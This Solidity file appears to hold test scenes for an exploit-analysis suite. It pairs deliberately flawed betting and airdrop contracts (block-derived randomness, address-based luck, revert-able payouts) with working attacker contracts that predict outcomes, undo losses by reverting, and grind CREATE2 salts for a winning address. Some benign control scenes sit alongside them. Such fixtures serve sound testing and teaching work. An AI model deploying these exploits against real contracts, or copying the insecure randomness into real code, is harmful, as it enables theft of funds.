// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// Pays double to who guesses a coin's side, which is made of what everybody can see.
contract Flip {
    uint256 public round;

    constructor() payable {}

    function side(address player) public view returns (bool) {
        return uint256(keccak256(abi.encode(block.number, block.timestamp, round, player))) % 2 == 1;
    }

    function bet(bool guess) external payable {
        bool won = side(msg.sender) == guess;
        round++;
        if (won) pay(msg.sender, msg.value * 2);
    }

    function pay(address to, uint256 amount) internal {
        (bool sent,) = to.call{value: amount}("");
        require(sent, "not sent");
    }
}

/// Hands its winnings on.
abstract contract Player {
    function keep() internal {
        (bool sent,) = tx.origin.call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    receive() external payable {}
}

/// Works out the side beforehand, five times.
contract Foreseer is Player {
    Flip immutable game;

    constructor(Flip game_) payable {
        game = game_;
    }

    function run() external payable {
        for (uint256 i = 0; i < 5; i++) {
            bool guess =
                uint256(keccak256(abi.encode(block.number, block.timestamp, game.round(), address(this)))) % 2 == 1;
            game.bet{value: 1 ether}(guess);
        }
        keep();
    }
}

contract FlipForeseen is Scene {
    constructor() payable {
        Flip game = new Flip{value: 8 ether}();
        actor = address(new Foreseer{value: 1 ether}(game));
    }
}

/// Bets, and takes back what it has not won by making it undone.
contract Undoer is Player {
    Flip immutable game;

    constructor(Flip game_) payable {
        game = game_;
    }

    function attempt(bool guess) external {
        uint256 before = address(this).balance;
        game.bet{value: 1 ether}(guess);
        require(address(this).balance > before, "lost");
    }

    function run() external payable {
        for (uint256 i = 0; i < 3; i++) {
            try this.attempt(true) {}
            catch {
                this.attempt(false);
            }
        }
        keep();
    }
}

contract LossUndone is Scene {
    constructor() payable {
        Flip game = new Flip{value: 8 ether}();
        actor = address(new Undoer{value: 1 ether}(game));
    }
}

/// Gives a prize to every seventh account, by its address, that pays a little.
contract Airdrops {
    constructor() payable {}

    function lucky(address who) public view returns (bool) {
        return uint256(keccak256(abi.encode(who, block.timestamp))) % 7 == 0;
    }

    function enter() external payable {
        require(msg.value >= 0.1 ether, "too little");
        if (!lucky(msg.sender)) return;
        (bool sent,) = msg.sender.call{value: address(this).balance / 2}("");
        require(sent, "not sent");
    }
}

/// An account that is made because it will be lucky.
contract Lucky {
    function enter(Airdrops game) external payable {
        game.enter{value: msg.value}();
        (bool sent,) = msg.sender.call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    receive() external payable {}
}

contract Breeder is Player {
    Airdrops immutable game;

    constructor(Airdrops game_) payable {
        game = game_;
    }

    function run() external payable {
        bytes32 code = keccak256(type(Lucky).creationCode);
        for (uint256 salt = 0;; salt++) {
            bytes32 hash = keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, code));
            if (!game.lucky(address(uint160(uint256(hash))))) continue;
            new Lucky{salt: bytes32(salt)}().enter{value: 0.1 ether}(game);
            break;
        }
        keep();
    }
}

contract WinnerBred is Scene {
    constructor() payable {
        Airdrops game = new Airdrops{value: 8 ether}();
        actor = address(new Breeder{value: 1 ether}(game));
    }
}

/// Takes bets now, and tells later who has won, by a secret that was promised before.
contract Lottery {
    bytes32 immutable promised;
    uint256 public constant PRICE = 1 ether;
    address[] public tickets;
    mapping(address => uint256) public won;

    constructor(bytes32 promised_) payable {
        promised = promised_;
    }

    function buy() external payable {
        require(msg.value >= PRICE, "too little");
        tickets.push(msg.sender);
        if (msg.value > PRICE) pay(msg.sender, msg.value - PRICE);
    }

    function draw(bytes calldata secret) external {
        require(keccak256(secret) == promised, "not the secret");
        won[tickets[uint256(keccak256(abi.encode(secret, tickets.length))) % tickets.length]] += 3 ether;
    }

    function collect() external {
        uint256 amount = won[msg.sender];
        won[msg.sender] = 0;
        pay(msg.sender, amount);
    }

    function pay(address to, uint256 amount) private {
        (bool sent,) = to.call{value: amount}("");
        require(sent, "not sent");
    }
}

/// Plays as it is meant to be played.
contract Gambler is Player {
    Lottery immutable lottery;
    bool immutable drawn;
    uint256 immutable paid;

    constructor(Lottery lottery_, bool drawn_, uint256 paid_) payable {
        (lottery, drawn, paid) = (lottery_, drawn_, paid_);
        if (drawn_) lottery_.buy{value: 1 ether}();
    }

    function run() external payable {
        if (drawn) lottery.collect();
        else lottery.buy{value: paid}();
    }
}

abstract contract LotteryScene is Scene {
    function set(bool drawn, uint256 paid) internal {
        Lottery lottery = new Lottery{value: 5 ether}(keccak256("secret"));
        actor = address(new Gambler{value: 2 ether}(lottery, drawn, paid));
        if (drawn) lottery.draw("secret");
    }
}

contract TicketBought is LotteryScene {
    constructor() payable {
        set(false, 1 ether);
    }
}

contract ChangeGivenBack is LotteryScene {
    constructor() payable {
        set(false, 2 ether);
    }
}

contract PrizeCollected is LotteryScene {
    constructor() payable {
        set(true, 0);
    }
}

/// A game whose sides nobody can know, and somebody who guesses right.
contract HiddenFlip is Flip {
    bytes32 immutable secret;

    constructor(bytes32 secret_) payable {
        secret = secret_;
    }

    function bet(uint256 guess) external payable {
        if (uint256(secret) % 2 == guess) pay(msg.sender, msg.value * 2);
    }
}

contract Guesser is Player {
    HiddenFlip immutable game;

    constructor(HiddenFlip game_) payable {
        game = game_;
    }

    function run() external payable {
        game.bet{value: 1 ether}(uint256(1));
    }
}

contract GuessedRight is Scene {
    constructor() payable {
        HiddenFlip game = new HiddenFlip{value: 8 ether}(bytes32(uint256(7)));
        actor = address(new Guesser{value: 1 ether}(game));
    }
}
